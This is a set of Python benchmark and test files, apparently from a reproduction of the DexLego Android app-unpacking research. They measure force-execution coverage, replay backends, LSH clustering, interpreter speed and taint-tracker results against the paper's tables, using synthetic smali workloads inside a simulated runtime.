from repro.harness.tables import render_table
from repro.runtime import Apk, register_native_library

ITERATIONS = 3
WORKERS = 4

LEGS = (
    ("serial fifo", "bfs", 1),
    ("serial dfs", "dfs", 1),
    ("serial rarity", "rarity-first", 1),
    ("parallel rarity", "rarity-first", WORKERS),
)


def _explore(apk, strategy: str, workers: int):
    engine = ForceExecutionEngine(
        apk, max_iterations=ITERATIONS, strategy=strategy, workers=workers
    )
    started = time.perf_counter()
    report = engine.run()
    return report, time.perf_counter() - started


def test_exploration_strategies(benchmark):
    app = all_fdroid_apps()[0]
    results = {}

    def run():
        for name, strategy, workers in LEGS:
            results[name] = _explore(app.apk, strategy, workers)
        return results

    run_once(benchmark, run)

    baseline, baseline_wall = results["serial fifo"]
    naive_baseline_replays = baseline.paths_executed + baseline.paths_deduped
    rows = []
    for name, _strategy, workers in LEGS:
        report, wall = results[name]
        half = report.coverage_curve[
            min(len(report.coverage_curve) - 1, report.paths_executed // 2)
        ]
        rows.append([
            name,
            f"{workers}",
            report.paths_executed,
            report.paths_executed + report.paths_deduped,
            report.paths_deduped,
            half,
            report.fully_covered_sites,
            f"{wall:.2f}s",
            f"{baseline_wall / wall:.2f}x" if wall else "inf",
        ])
    print()
    print(render_table(
        f"Force-execution exploration — {app.package} "
        f"({ITERATIONS} iterations)",
        ["Leg", "Workers", "Replays", "Naive Replays", "Dedup Saved",
         "Covered@Half", "Covered", "Wall", "vs FIFO"],
        rows,
    ))
    print(f"naive serial baseline (fifo, no dedup): "
          f"{naive_baseline_replays} replays for "
          f"{baseline.fully_covered_sites} covered sites")

    # Every strategy converges to the same covered-UCB count.
    covered = {report.fully_covered_sites for report, _ in results.values()}
    assert covered == {baseline.fully_covered_sites}

    # Parallel rarity-first reaches the serial baseline's covered-UCB
    # count with fewer replays than the naive (dedup-free) serial
    # explorer spends — the reported dedup savings are the difference.
    par_report, _ = results["parallel rarity"]
    assert par_report.fully_covered_sites >= baseline.fully_covered_sites
    assert par_report.paths_executed < naive_baseline_replays
    assert par_report.paths_deduped > 0

    # Worker count is throughput-only: the parallel exploration is
    # bit-for-bit the serial one.
    serial_report, _ = results["serial rarity"]
    assert par_report.exploration_order == serial_report.exploration_order
    assert par_report.coverage_curve == serial_report.coverage_curve


# -- thread vs process replay throughput -------------------------------------
# A packer-style workload: a native "unpacker" flips the payload guard at
# runtime (self-modifying code, so the predecode index ships pristine
# bytes only), the revealed payload burns a hot interpreter loop, and a
# row of one-sided gates leaves UCBs for the engine to replay.  Replays
# are pure Python interpretation — GIL-bound — so a thread pool replays
# a wave serially no matter its width, while forked worker processes
# execute replays genuinely in parallel.  The determinism contract makes
# the comparison exact: both backends produce bit-identical exploration,
# only wall clock may differ.

PACK_CLS = "Lb/Packer;"
PACK_SIG = f"{PACK_CLS}->payload()V"
PACK_GATES = 6
PACK_LOOP = 4_000 if quick_mode() else 40_000
#: Process replays must beat thread replays by this factor — asserted
#: only where parallelism is physically possible (≥2 usable cores and
#: not the quick lane); a single-core runner still checks determinism
#: and prints the measured ratio.
SPEEDUP_FLOOR = 1.5


def _pack_unpack(ctx, this):
    units = ctx.method_code_units(PACK_SIG)
    pos = 0
    while pos < len(units):
        ins = Instruction.decode_at(units, pos)
        if ins.name == "if-eqz":
            flipped = Instruction.make("if-nez", *ins.operands).encode()
            ctx.patch_code(PACK_SIG, pos, flipped)
            return
        pos += ins.unit_count


register_native_library("libb_packer",
                        {f"{PACK_CLS}->unpack()V": _pack_unpack})


def _packer_apk() -> Apk:
    gates = "\n".join(
        f"""    const/4 v2, 0
    if-nez v2, :locked{i}
    :next{i}"""
        for i in range(PACK_GATES)
    )
    locked = "\n".join(
        f"""    :locked{i}
    sget v3, {PACK_CLS}->a:I
    add-int/lit8 v3, v3, 1
    sput v3, {PACK_CLS}->a:I
    goto :next{i}"""
        for i in range(PACK_GATES)
    )
    text = f"""
.class public {PACK_CLS}
.super Landroid/app/Activity;
.field public static a:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-virtual {{p0}}, {PACK_CLS}->unpack()V
    invoke-virtual {{p0}}, {PACK_SIG}
    return-void
.end method

.method public payload()V
    .registers 5
    const/4 v0, 0
    if-eqz v0, :decoy
    const/16 v1, 0
    :hot
    add-int/lit8 v1, v1, 1
    const v4, {PACK_LOOP}
    if-ne v1, v4, :hot
{gates}
    return-void
    :decoy
    nop
    goto :hot
{locked}
.end method

.method public native unpack()V
.end method
"""
    return Apk("b.packer", PACK_CLS, [assemble(text)],
               native_libraries=["libb_packer"])


def test_replay_backend_throughput(benchmark):
    results = {}

    def run():
        for backend in ("thread", "process"):
            engine = ForceExecutionEngine(
                _packer_apk(), max_iterations=4, workers=WORKERS,
                backend=backend,
            )
            started = time.perf_counter()
            report = engine.run()
            results[backend] = (report, time.perf_counter() - started)
        return results

    run_once(benchmark, run)

    rows = []
    for backend, (report, wall) in results.items():
        throughput = report.replay_steps / wall if wall else 0.0
        rows.append([
            backend,
            f"{WORKERS}",
            report.paths_executed,
            report.replay_steps,
            f"{wall:.2f}s",
            f"{throughput / 1000:.0f}k steps/s",
        ])
    thread_report, thread_wall = results["thread"]
    process_report, process_wall = results["process"]
    ratio = thread_wall / process_wall if process_wall else float("inf")
    cores = len(os.sched_getaffinity(0))
    print()
    print(render_table(
        f"Replay backends — packer workload ({PACK_GATES} gates, "
        f"{PACK_LOOP}-step payload loop, {cores} core(s))",
        ["Backend", "Workers", "Replays", "Replay Steps", "Wall",
         "Throughput"],
        rows,
    ))
    print(f"process vs thread replay throughput: {ratio:.2f}x "
          f"(floor {SPEEDUP_FLOOR}x, asserted on >=2 cores)")

    # Bit-identical exploration is unconditional: same order, same
    # curve, same covered set, same replay step total.
    assert (process_report.exploration_order
            == thread_report.exploration_order)
    assert process_report.coverage_curve == thread_report.coverage_curve
    assert process_report.ucbs_covered == thread_report.ucbs_covered
    assert process_report.replay_steps == thread_report.replay_steps
    assert process_report.replay_steps > 0  # the lane really replayed

    # The speedup claim needs hardware that can express it: forked
    # workers on one core only add scheduling overhead.
    if cores >= 2 and not quick_mode():
        assert ratio >= SPEEDUP_FLOOR, (
            f"process backend {ratio:.2f}x vs thread; expected "
            f">= {SPEEDUP_FLOOR}x on {cores} cores"
        )
