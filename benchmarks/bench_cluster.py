"""Family clustering — LSH nearest-neighbor vs the linear oracle.

Not a paper table: this measures the clustering layer the reproduction
adds on top of the reveal index.  Two experiments:

* ``lsh-vs-linear`` — a generated corpus of ≥1k method digests (100
  families of single-byte-tweak variants, sha256 counter-mode blobs so
  families are independent) queried both ways.  The acceptance bar —
  banded ``nearest`` ≥10x faster than the exhaustive scan at recall
  ≥0.95 — is asserted here and in ``tests/cluster/test_lsh.py``.
* ``reveal-and-label`` — a shared-library corpus revealed through a
  cluster-attached batch service, then family-clustered; the table
  carries member/label throughput and the family partition shape.
"""

import hashlib
import time

from benchmarks.conftest import quick_mode, run_once
from repro.benchsuite.shared_corpus import build_shared_corpus
from repro.cluster.lsh import LshIndex
from repro.cluster.store import ClusterStore
from repro.harness.tables import render_table
from repro.index.fuzzy import fuzzy_digest
from repro.service import BatchRevealService, RevealJob

FAMILIES = 100
VARIANTS = 10
QUERIES = 25 if quick_mode() else 50
LIMIT = 5

APPS = 6 if quick_mode() else 20


def _blob(seed: int, size: int = 400) -> bytes:
    """Independent pseudo-random bytes per seed (sha256 counter mode)."""
    out = b""
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{seed}:{counter}".encode()).digest()
        counter += 1
    return out[:size]


def _variant(base: bytes, var: int) -> bytes:
    body = bytearray(base)
    body[(var * 31 + 7) % len(body)] ^= 0x5A
    return bytes(body)


def test_lsh_nearest_vs_linear(benchmark):
    lsh = LshIndex()
    count = 0
    for fam in range(FAMILIES):
        base = _blob(fam)
        for var in range(VARIANTS):
            digest = fuzzy_digest(_variant(base, var))
            assert digest is not None
            lsh.add(digest, ref=count, sort_key=(count,))
            count += 1
    assert count >= 1000
    queries = [fuzzy_digest(_variant(_blob(fam), 97))
               for fam in range(0, FAMILIES, FAMILIES // QUERIES)]

    timings = {}

    def run():
        start = time.perf_counter()
        exact = [lsh.nearest(q, limit=LIMIT, exhaustive=True)
                 for q in queries]
        timings["linear_s"] = time.perf_counter() - start
        start = time.perf_counter()
        fast = [lsh.nearest(q, limit=LIMIT) for q in queries]
        timings["lsh_s"] = time.perf_counter() - start
        hits = sum(len({r for _, r in e} & {r for _, r in f})
                   for e, f in zip(exact, fast))
        timings["recall"] = hits / (LIMIT * len(queries))
        return timings

    run_once(benchmark, run)
    speedup = timings["linear_s"] / timings["lsh_s"]
    stats = lsh.stats()

    print()
    print(render_table(
        f"LSH nearest vs linear scan ({count} methods, "
        f"{len(queries)} queries, k={LIMIT})",
        ["Scan", "Wall", "Queries/s", "Recall"],
        [
            ["linear", f"{timings['linear_s'] * 1e3:.1f}ms",
             f"{len(queries) / timings['linear_s']:.0f}", "1.00"],
            ["lsh", f"{timings['lsh_s'] * 1e3:.1f}ms",
             f"{len(queries) / timings['lsh_s']:.0f}",
             f"{timings['recall']:.2f}"],
        ],
    ))
    print(f"speedup {speedup:.1f}x; {stats['buckets']} buckets "
          f"({stats['bands']} bands x {stats['band_width']} chars, "
          f"largest {stats['largest_bucket']})")

    # The acceptance bar rides in the benchmark too, not only in tests.
    assert timings["recall"] >= 0.95, timings
    assert speedup >= 10, timings


def test_reveal_and_label_throughput(benchmark, tmp_path):
    cluster_dir = str(tmp_path / "fam")
    apps = build_shared_corpus(APPS, methods_per_class=2)
    jobs = [RevealJob(app.package, app.apk) for app in apps]
    box = {}

    def run():
        service = BatchRevealService(cluster_dir=cluster_dir, workers=1)
        box["report"] = service.reveal_batch(jobs)
        store = ClusterStore(cluster_dir, create=False)
        start = time.perf_counter()
        box["assignment"] = store.build_families()
        box["families_s"] = time.perf_counter() - start
        box["stats"] = store.stats()
        store.close()
        return box

    run_once(benchmark, run)
    report, stats = box["report"], box["stats"]
    assert report.ok_count == APPS
    summary = report.cluster_summary()

    print()
    print(render_table(
        f"Reveal + auto-label ({APPS} apps, "
        f"{apps[0].shared_fraction:.0%} shared methods)",
        ["Members", "Apps", "Labels", "Known", "Near-miss",
         "Families", "Cluster wall"],
        [[
            str(stats["members"]),
            str(stats["apps"]),
            str(summary["labels_assigned"]),
            str(summary["methods_known"]),
            str(summary["methods_near_miss"]),
            str(len(box["assignment"].families)),
            f"{box['families_s'] * 1e3:.1f}ms",
        ]],
    ))

    # Shared libraries make every app after the first label-able, and
    # the shared pool pulls the corpus into fewer families than apps.
    assert summary["apps_labeled"] == APPS
    assert summary["labels_assigned"] > 0
    assert 1 <= len(box["assignment"].families) <= APPS
