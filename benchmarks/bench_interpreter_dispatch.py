"""Interpreter fast-path micro-benchmark: steps/sec on the hot loop.

Not a paper table: this measures the execution loop every reveal sits
on top of (predecode cache + opcode-value dispatch + listener fan-out,
docs/architecture.md "Interpreter fast path").  Seven legs, all in
steps per second:

* ``reference``        — the naive pre-PR loop shape (decode from the
  live array every step, string-mnemonic handler lookup), no listeners;
* ``fast warm``        — fast path, tight arithmetic/branch loop with
  the predecode cache warm: the headline number;
* ``fast cold``        — straight-line code on a freshly replaced
  code-unit array before every call, so every fetch decodes;
* ``fast straight``    — the same straight-line code with the cache
  kept warm across calls (cold's control);
* ``invalidation storm`` — a native patches the loop body on every
  iteration, bumping the generation each time: the cache's worst case,
  every cached entry is generation-stale on every fetch;
* ``reference+collector`` / ``fast+collector`` — the tight loop with a
  DexLegoCollector attached, naive vs fast fan-out.

Asserted: the fast warm loop clears >= 1.5x the reference interpreter
(the PR's acceptance floor), and the storm leg computes the exact value
live fetch demands (the cache may never win speed at the cost of
correctness).
"""

import time

from benchmarks.conftest import quick_mode, run_once
from repro.core import DexLegoCollector
from repro.dex import assemble
from repro.dex.instructions import Instruction
from repro.harness.tables import render_table
from repro.runtime import AndroidRuntime, Apk
from repro.runtime.interpreter import Interpreter

LOOP_N = 30_000 if quick_mode() else 150_000
STORM_N = 4_000 if quick_mode() else 20_000
COLD_CALLS = 40 if quick_mode() else 150
STRAIGHT_LEN = 400

_CLS = "Lb/Interp;"

_SMALI = f"""
.class public Lb/Interp;
.super Ljava/lang/Object;

.method public static spin(I)I
    .registers 4
    const/4 v0, 0
    const/4 v1, 0
    :head
    if-ge v1, p0, :done
    mul-int v2, v1, v1
    add-int v0, v0, v2
    rem-int/lit8 v2, v1, 7
    if-nez v2, :skip
    add-int/lit8 v0, v0, 3
    :skip
    add-int/lit8 v1, v1, 1
    goto :head
    :done
    return v0
.end method

.method public static straight()I
    .registers 2
    const/4 v0, 0
{chr(10).join("    add-int/lit8 v0, v0, 1" for _ in range(STRAIGHT_LEN))}
    return v0
.end method

.method public static storm(I)I
    .registers 3
    const/4 v0, 0
    :head
    if-lez p0, :done
    invoke-static {{}}, Lb/Interp;->tamper()V
    add-int/lit8 v0, v0, 1
    add-int/lit8 p0, p0, -1
    goto :head
    :done
    return v0
.end method

.method public static native tamper()V
.end method
"""


def _runtime(fast_path: bool = True, collector: bool = False) -> AndroidRuntime:
    runtime = AndroidRuntime(max_steps=None)
    runtime.interpreter = Interpreter(runtime, fast_path=fast_path)
    if collector:
        runtime.add_listener(DexLegoCollector())
    runtime.install_apk(Apk("b.interp", _CLS, [assemble(_SMALI)]))
    return runtime


def _steps_per_sec(runtime: AndroidRuntime, call) -> tuple[float, float]:
    before = runtime.steps
    started = time.perf_counter()
    call()
    wall = time.perf_counter() - started
    return (runtime.steps - before) / wall, wall


def _leg_loop(fast_path: bool, collector: bool = False):
    runtime = _runtime(fast_path=fast_path, collector=collector)
    runtime.call(f"{_CLS}->spin(I)I", 100)  # link + warm
    return _steps_per_sec(
        runtime, lambda: runtime.call(f"{_CLS}->spin(I)I", LOOP_N)
    )


def _straight_method(runtime: AndroidRuntime):
    klass = runtime.class_linker.lookup(_CLS)
    return klass.find_method("straight", (), "I")


def _leg_cold():
    """Every call sees a freshly replaced array: all fetches decode."""
    runtime = _runtime()
    method = _straight_method(runtime)
    runtime.call(f"{_CLS}->straight()I")  # link once

    def storm_of_cold_calls():
        for _ in range(COLD_CALLS):
            method.code.insns = list(method.code.insns)  # fresh CodeUnits
            runtime.call(f"{_CLS}->straight()I")

    return _steps_per_sec(runtime, storm_of_cold_calls)


def _leg_straight_warm():
    runtime = _runtime()
    runtime.call(f"{_CLS}->straight()I")  # link + warm

    def calls():
        for _ in range(COLD_CALLS):
            runtime.call(f"{_CLS}->straight()I")

    return _steps_per_sec(runtime, calls)


def _leg_storm():
    """A native rewrites the loop body on every single iteration."""
    runtime = _runtime()
    flip = {"literal": 1}

    def tamper(ctx):
        flip["literal"] = 3 - flip["literal"]  # alternate 1 <-> 2
        # storm(I)I layout: const/4 @0, if-lez @1 (2u), invoke @3 (3u),
        # then the patched add-int/lit8 at pc 6.
        ctx.patch_code(
            f"{_CLS}->storm(I)I",
            6,
            Instruction.make("add-int/lit8", 0, 0, flip["literal"]).encode(),
        )

    runtime.natives.register(f"{_CLS}->tamper()V", tamper)
    rate, wall = _steps_per_sec(
        runtime, lambda: _run_storm_checked(runtime)
    )
    return rate, wall


def _run_storm_checked(runtime: AndroidRuntime) -> None:
    # Iteration i adds 2 on odd i, 1 on even i (tamper runs pre-add):
    # live fetch must observe every patch, so the sum is exact.
    result = runtime.call(f"{_CLS}->storm(I)I", STORM_N)
    expected = (STORM_N // 2) * 3 + (STORM_N % 2) * 2
    assert result == expected, f"storm corrupted: {result} != {expected}"


def test_interpreter_dispatch(benchmark):
    results = {}

    def run():
        results["reference"] = _leg_loop(fast_path=False)
        results["fast warm"] = _leg_loop(fast_path=True)
        results["fast cold"] = _leg_cold()
        results["fast straight"] = _leg_straight_warm()
        results["invalidation storm"] = _leg_storm()
        results["reference+collector"] = _leg_loop(
            fast_path=False, collector=True
        )
        results["fast+collector"] = _leg_loop(fast_path=True, collector=True)
        return results

    run_once(benchmark, run)

    reference_rate = results["reference"][0]
    rows = [
        [name, f"{rate:,.0f}", f"{wall:.3f}s", f"{rate / reference_rate:.2f}x"]
        for name, (rate, wall) in results.items()
    ]
    print()
    print(render_table(
        f"Interpreter dispatch — steps/sec (loop n={LOOP_N:,})",
        ["Leg", "Steps/sec", "Wall", "vs reference"],
        rows,
    ))

    # The acceptance floor: warm fast path is at least 1.5x the naive
    # decode-every-step interpreter on the tight loop (measured ~3.3x).
    # CI's bench-smoke lane runs quick mode on loaded shared runners
    # where a single short measurement can catch scheduler jitter, so
    # the floors relax there — the full `make bench-interp` run keeps
    # the real acceptance bar.
    warm_floor, collector_floor = (1.2, 0.9) if quick_mode() else (1.5, 1.0)
    fast_rate = results["fast warm"][0]
    assert fast_rate >= warm_floor * reference_rate, (
        f"fast path only {fast_rate / reference_rate:.2f}x reference"
    )
    # Instrumented runs must profit too (fan-out + cache beat the naive
    # full-listener loop), just with a lower floor: the collector's own
    # Python work dominates both legs.
    instrumented_ratio = (
        results["fast+collector"][0] / results["reference+collector"][0]
    )
    assert instrumented_ratio > collector_floor, (
        f"instrumented fast path only {instrumented_ratio:.2f}x"
    )
