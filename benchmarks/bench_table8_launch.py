"""Table VIII — launch time with and without DexLego.

Paper: roughly 2x launch-time slowdown across Snapchat / Instagram /
WhatsApp; our analogues must show a consistent slowdown of the same
order.
"""

from benchmarks.conftest import run_once
from repro.harness import run_table8


def test_table8_launch_time(benchmark):
    result = run_once(benchmark, run_table8, launches=15)
    print()
    print(result.render())
    for row in result.rows:
        slowdown = float(row[-1].rstrip("x"))
        assert slowdown > 1.2, row
        assert slowdown < 20, row
