"""Figure 5 — F-Measures under each processing mode.

Paper: DexLego lifts F-Measures by 33.3% / 31.1% / 23.6%; DexHunter and
AppSpear improve results by less than 3%.
"""

from benchmarks.conftest import run_once
from repro.harness import run_fig5


def test_fig5_f_measures(benchmark):
    result = run_once(benchmark, run_fig5)
    print()
    print(result.render())
    gains = result.extras["gains"]
    for tool, gain in gains.items():
        assert gain > 15.0, f"{tool} gain {gain:.1f}% too small"
    # Ordering: the weakest original profits the most.
    assert gains["DroidSafe"] > gains["HornDroid"] * 0.8
