"""Table IV — dynamic trackers vs DexLego + HornDroid.

Paper rows (detected / total): Button1 0,0,1; Button3 0,0,2;
EmulatorDetection1 0,1,1; ImplicitFlow1 0,0,2; PrivateDataLeak3 1,1,1.
"""

from benchmarks.conftest import run_once
from repro.harness import run_table4

_PAPER_ROWS = {
    "Button1": [1, 0, 0, 1],
    "Button3": [2, 0, 0, 2],
    "EmulatorDetection1": [1, 0, 1, 1],
    "ImplicitFlow1": [2, 0, 0, 2],
    "PrivateDataLeak3": [2, 1, 1, 1],
}


def test_table4_dynamic_tools(benchmark):
    result = run_once(benchmark, run_table4)
    print()
    print(result.render())
    for row in result.rows:
        assert row[1:] == _PAPER_ROWS[row[0]], row
