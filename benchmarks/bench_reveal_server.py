"""Reveal-server throughput — job lanes, queue wait, event overhead.

Not a paper table: this measures the job-oriented server the
reproduction adds on top of the batch service.  One F-Droid corpus is
pushed through three shapes:

* ``batch``  — the ``reveal_batch`` façade (submit_many + await_many on
  an ephemeral server), the drop-in replacement for the old pool;
* ``lanes``  — the same jobs submitted across high/normal/low priority
  lanes against a single worker, verifying lane order is honoured and
  recording the queue-wait percentiles the lanes create;
* ``events`` — a 4-worker server with a subscriber consuming the full
  unified event stream, pricing the progress channel.

The printed table carries wall time, p50/p95 queue wait and the event
count per run; the assertions pin the semantics (lane ordering, event
lifecycle coverage) so a regression breaks the build, not just the
numbers.
"""

from benchmarks.conftest import run_once
from repro.benchsuite import all_fdroid_apps
from repro.harness.tables import render_table
from repro.service import (
    PRIORITY_HIGH,
    PRIORITY_LOW,
    PRIORITY_NORMAL,
    BatchRevealService,
    RevealJob,
    RevealServer,
)

WORKERS = 4
LANES = (PRIORITY_HIGH, PRIORITY_NORMAL, PRIORITY_LOW)


def _corpus_jobs():
    return [RevealJob(app.package, app.apk) for app in all_fdroid_apps()]


def test_server_throughput_and_lanes(benchmark):
    jobs = _corpus_jobs()
    results = {}

    def run():
        import time

        # batch: the reveal_batch façade end to end.
        started = time.perf_counter()
        report = BatchRevealService(workers=WORKERS).reveal_batch(jobs)
        results["batch"] = {
            "wall_s": time.perf_counter() - started,
            "p50_wait_s": report.p50_queue_wait_s,
            "p95_wait_s": report.p95_queue_wait_s,
            "events": 0,
            "note": f"{report.total} ok={report.ok_count}",
        }

        # lanes: one worker, every lane loaded, completion order must
        # follow lane priority.
        started = time.perf_counter()
        server = RevealServer(workers=1, autostart=False)
        by_lane = {
            lane: [server.submit(job, priority=lane) for job in jobs]
            for lane in LANES
        }
        server.start()
        server.close()
        lane_report = {
            lane: max(h.finished_at for h in handles)
            for lane, handles in by_lane.items()
        }
        results["lanes"] = {
            "wall_s": time.perf_counter() - started,
            "p50_wait_s": sorted(
                h.queue_wait_s for hs in by_lane.values() for h in hs
            )[len(jobs) * len(LANES) // 2],
            "p95_wait_s": max(
                h.queue_wait_s for hs in by_lane.values() for h in hs),
            "events": len(server.bus.history),
            "note": "lane order honoured",
        }
        assert lane_report[PRIORITY_HIGH] <= lane_report[PRIORITY_NORMAL] \
            <= lane_report[PRIORITY_LOW]

        # events: full stream consumed while a 4-worker pool drains.
        started = time.perf_counter()
        server = RevealServer(workers=WORKERS)
        stream = server.events()
        handles = server.submit_many(jobs)
        server.await_many(handles)
        server.close()
        consumed = list(stream)
        results["events"] = {
            "wall_s": time.perf_counter() - started,
            "p50_wait_s": sorted(h.queue_wait_s for h in handles)[
                len(handles) // 2],
            "p95_wait_s": max(h.queue_wait_s for h in handles),
            "events": len(consumed),
            "note": f"{sum(e.terminal for e in consumed)} terminal",
        }
        assert sum(1 for e in consumed if e.kind == "done") == len(jobs)
        return results

    run_once(benchmark, run)

    rows = [
        [
            name,
            f"{entry['wall_s']:.2f}s",
            f"{entry['p50_wait_s'] * 1000:.1f}ms",
            f"{entry['p95_wait_s'] * 1000:.1f}ms",
            str(entry["events"]),
            entry["note"],
        ]
        for name, entry in results.items()
    ]
    print()
    print(render_table(
        "Reveal server (F-Droid corpus)",
        ["Run", "Wall", "p50 wait", "p95 wait", "Events", "Note"],
        rows,
    ))
