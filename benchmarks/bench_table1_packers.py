"""Table I — packer matrix over the AOSP app analogues.

Paper: five services succeed on all four apps (217 / 2,507 / 78,598 /
103,602 instructions); NetQin, APKProtect and Ijiami are unavailable.
"""

from benchmarks.conftest import run_once
from repro.harness import run_table1


def test_table1_packers(benchmark):
    result = run_once(benchmark, run_table1)
    print()
    print(result.render())
    ok_cells = [cell for row in result.rows for cell in row[1:]
                if cell == "OK"]
    unavailable = [row for row in result.rows if "unavailable" in row[1:]]
    assert len(ok_cells) == 5 * 4  # five services x four apps
    assert len(unavailable) == 3
