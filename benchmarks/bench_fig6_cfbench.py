"""Figure 6 — CF-Bench scores: unmodified runtime vs DexLego.

Paper: 7.5x Java, 1.4x native, 2.3x overall overhead.  The absolute
numbers here are Python-scale; the property that must hold is the shape:
Java (interpreted) work slows substantially, native work barely.
"""

from benchmarks.conftest import run_once
from repro.harness import run_fig6


def test_fig6_cfbench(benchmark):
    result = run_once(benchmark, run_fig6, runs=7)
    print()
    print(result.render())
    baseline = result.extras["baseline"]
    instrumented = result.extras["instrumented"]
    java_overhead = baseline.java_score / instrumented.java_score
    native_overhead = baseline.native_score / instrumented.native_score
    overall_overhead = baseline.overall_score / instrumented.overall_score
    assert java_overhead > 1.5
    assert native_overhead < java_overhead
    assert native_overhead < 1.5
    assert 1.0 <= overall_overhead <= java_overhead
