"""Table VII — code coverage: Sapienz alone vs Sapienz + force execution.

Paper: instruction coverage rises from 32% to 82%; the residue is dead
code, native crashes and never-thrown exception handlers.
"""

from benchmarks.conftest import quick_mode, run_once
from repro.harness import run_table7


def test_table7_coverage(benchmark):
    # The full corpus dominates the bench-smoke lane (~10 min alone);
    # two apps keep every assertion valid at a tenth of the cost.
    result = run_once(benchmark, run_table7,
                      limit=2 if quick_mode() else None)
    print()
    print(result.render())
    sapienz = result.rows[0]
    combined = result.rows[1]

    def pct(cell: str) -> int:
        return int(cell.rstrip("%"))

    # Fuzzing alone plateaus around a third of the instructions.
    assert 20 <= pct(sapienz[5]) <= 45
    # Force execution lifts it dramatically but a residue stays uncovered.
    assert pct(combined[5]) >= 70
    assert pct(combined[5]) < 100
    assert pct(combined[5]) - pct(sapienz[5]) >= 35
