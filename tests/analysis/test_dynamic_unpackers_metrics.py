"""Dynamic taint, unpacker baselines, metrics, CFG and call graph."""


from repro.analysis import (
    AppSpearLike,
    Confusion,
    ControlFlowGraph,
    DexHunterLike,
    build_call_graph,
    edges_preserved,
    horndroid,
    taintart,
    taintdroid,
)
from repro.benchsuite import sample_by_name
from repro.dex import assemble
from repro.packers import Qihoo360Packer
from repro.runtime import EMULATOR, NEXUS_5X, AndroidRuntime, AppDriver

from tests.conftest import build_simple_apk


def _track(sample_name: str, tracker_factory, device):
    sample = sample_by_name(sample_name)
    tracker = tracker_factory()
    runtime = AndroidRuntime(device, max_steps=3_000_000)
    runtime.add_listener(tracker)
    AppDriver(runtime, sample.build_apk()).run_standard_session()
    return tracker


class TestDynamicTaint:
    def test_direct_leak_tracked(self):
        tracker = _track("Direct0", taintart, NEXUS_5X)
        assert tracker.leak_count() == 1
        assert tracker.detected_tags() == {"imei"}

    def test_implicit_flow_missed(self):
        tracker = _track("ImplicitFlow1", taintart, NEXUS_5X)
        assert tracker.leak_count() == 0

    def test_widget_launders_taint(self):
        tracker = _track("Button1", taintart, NEXUS_5X)
        assert tracker.leak_count() == 0

    def test_emulator_detection_evades_taintdroid(self):
        td = _track("EmulatorDetection1", taintdroid, EMULATOR)
        ta = _track("EmulatorDetection1", taintart, NEXUS_5X)
        assert td.leak_count() == 0
        assert ta.leak_count() == 1

    def test_file_roundtrip_launders(self):
        tracker = _track("PrivateDataLeak3", taintart, NEXUS_5X)
        assert tracker.leak_count() == 1  # only the direct flow

    def test_field_and_array_propagation(self):
        tracker = _track("FieldSense0", taintart, NEXUS_5X)
        assert tracker.leak_count() == 1
        tracker = _track("ArrayFlow0", taintart, NEXUS_5X)
        assert tracker.leak_count() == 1

    def test_thread_boundary_tracked(self):
        tracker = _track("ThreadThread0", taintart, NEXUS_5X)
        assert tracker.leak_count() == 1


class TestUnpackerBaselines:
    def test_recovers_ordinary_packed_app(self):
        apk = build_simple_apk("u.plain")
        packed = Qihoo360Packer().pack(apk)
        result = DexHunterLike().unpack(packed)
        assert result.dumped_dex.find_class("Lcom/fix/Simple;") is not None
        # Dumped app re-executes identically.
        runtime = AndroidRuntime()
        driver = AppDriver(runtime, result.unpacked_apk)
        driver.launch()
        # The dump contains shell + original classes.
        assert result.classes_dumped >= 2

    def test_single_snapshot_misses_selfmod_flow(self):
        sample = sample_by_name("SelfMod1")
        packed = Qihoo360Packer().pack(sample.build_apk())
        for unpacker in (DexHunterLike(), AppSpearLike()):
            dumped = unpacker.unpack(packed).unpacked_apk
            assert not horndroid().analyze(dumped).detected, unpacker.name

    def test_dump_keeps_dead_code(self):
        sample = sample_by_name("DeadCode0")
        packed = Qihoo360Packer().pack(sample.build_apk())
        DexHunterLike().unpack(packed)
        # Wait: DeadCode0's orphan class is never LOADED, so a dump-based
        # unpacker cannot contain it either -- but the ordinary (unpacked)
        # analysis still sees it in the original DEX.  Here we check the
        # dump of a *plain* flow sample keeps its full method bodies.
        sample2 = sample_by_name("Direct0")
        packed2 = Qihoo360Packer().pack(sample2.build_apk())
        dumped2 = DexHunterLike().unpack(packed2).unpacked_apk
        assert horndroid().analyze(dumped2).detected

    def test_dynamically_loaded_classes_are_dumped(self):
        sample = sample_by_name("DynLoad0")
        packed = Qihoo360Packer().pack(sample.build_apk())
        dumped = DexHunterLike().unpack(packed).unpacked_apk
        assert any(
            "Plugin0" in d for d in dumped.primary_dex.class_descriptors()
        )
        assert horndroid().analyze(dumped).detected


class TestMetrics:
    def test_confusion_counts(self):
        c = Confusion()
        c.record(True, True)   # TP
        c.record(True, False)  # FN
        c.record(False, True)  # FP
        c.record(False, False)  # TN
        assert (c.tp, c.fn, c.fp, c.tn) == (1, 1, 1, 1)
        assert c.sensitivity == 0.5
        assert c.specificity == 0.5
        assert c.f_measure == 0.5

    def test_paper_formula_reproduces_fig5_values(self):
        # HornDroid original: TP 98 / FN 13, FP 9 / TN 14 -> F about 0.72.
        c = Confusion(tp=98, fn=13, fp=9, tn=14)
        assert abs(c.f_measure - 0.72) < 0.01
        # FlowDroid original: 81/30, 10/13 -> about 0.63.
        c = Confusion(tp=81, fn=30, fp=10, tn=13)
        assert abs(c.f_measure - 0.637) < 0.01

    def test_degenerate_cases(self):
        assert Confusion().f_measure == 0.0
        assert Confusion(tp=5, fn=0, fp=0, tn=5).f_measure == 1.0

    def test_addition(self):
        total = Confusion(tp=1) + Confusion(fp=2)
        assert (total.tp, total.fp) == (1, 2)


class TestCfgAndCallGraph:
    def test_cfg_blocks_and_edges(self):
        dex = assemble("""
.class public Lc/G;
.super Ljava/lang/Object;
.method public static f(I)I
    .registers 3
    if-lez p0, :neg
    const/4 v0, 1
    return v0
    :neg
    const/4 v0, -1
    return v0
.end method
""")
        method = dex.find_class("Lc/G;").all_methods()[0]
        cfg = ControlFlowGraph(method.code)
        assert cfg.block_count() == 3
        entry = cfg.entry_block()
        assert len(entry.successors) == 2
        assert len(cfg.conditional_branch_sites()) == 1

    def test_cfg_exception_edges(self):
        dex = assemble("""
.class public Lc/E;
.super Ljava/lang/Object;
.method public static f(I)I
    .registers 3
    :s
    const/16 v0, 10
    div-int v0, v0, p0
    :e
    return v0
    :h
    const/4 v0, -1
    return v0
    .catch Ljava/lang/ArithmeticException; {:s .. :e} :h
.end method
""")
